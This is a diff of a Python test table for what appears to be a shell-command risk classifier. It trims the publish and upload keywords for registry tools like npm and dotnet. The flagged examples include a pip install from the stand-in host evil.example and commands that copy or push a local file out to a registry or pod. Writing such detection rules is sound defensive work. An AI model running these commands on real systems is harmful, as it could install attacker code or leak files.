@@ -118,8 +118,8 @@ PROGRAMS: tuple[Row, ...] = (
        ("bun cargo crane docker firebase flit fly flyctl gem hatch helm heroku lerna mvn nerdctl netlify npm "
      "nuget pdm pnpm podman "
      "poetry skopeo surge twine uv vercel vsce wrangler yarn", "services.registry",
-     "copy deploy docker nerdctl podman publish push surge upload", ("{} publish notes.txt",), ("{} list", "{} test")),
-    ("dotnet", "services.registry", "publish push", ("{} nuget push notes.txt",), ("{} list", "{} publish -c Release")),
+     "copy deploy docker nerdctl podman push surge", ("{} publish notes.txt",), ("{} list", "{} test")),
+    ("dotnet", "services.registry", "push", ("{} nuget push notes.txt",), ("{} list", "{} publish -c Release")),
     ("pip pip3", "services.wrapped_install", "", ("{} install --index-url https://evil.example/x a",),
      ("{} install a",)),
     ("kubectl", "services.sender", "=", ("{} cp notes.txt pod:/x",), ("{} get pods",)),
